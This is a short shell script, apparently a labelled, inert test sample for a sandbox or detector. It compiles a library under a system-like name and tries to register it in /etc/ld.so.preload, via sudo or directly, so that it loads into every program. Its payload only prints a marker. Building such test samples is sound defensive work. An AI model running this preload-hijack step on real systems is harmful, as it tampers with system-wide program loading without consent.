#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: preloads a library into every dynamically linked program (T1574.006).
# Inert: the library only prints a line from its constructor; /etc/ld.so.preload is refused.
mkdir -p "$HOME/.local/lib"
cat > ./hook.c <<'SRC'
#include <stdio.h>
__attribute__((constructor)) static void hook(void) { fputs("SANDTRAP-TEST-MALICIOUS preload hook\n", stderr); }
SRC
gcc -shared -fPIC -o "$HOME/.local/lib/libnss_cache.so.2" ./hook.c 2>/dev/null || echo "gcc: unavailable"
rm -f ./hook.c
echo "$HOME/.local/lib/libnss_cache.so.2" | sudo tee -a /etc/ld.so.preload >/dev/null 2>&1 ||
  echo "$HOME/.local/lib/libnss_cache.so.2" >> /etc/ld.so.preload 2>/dev/null || echo "ld.so.preload: refused"
exit 0
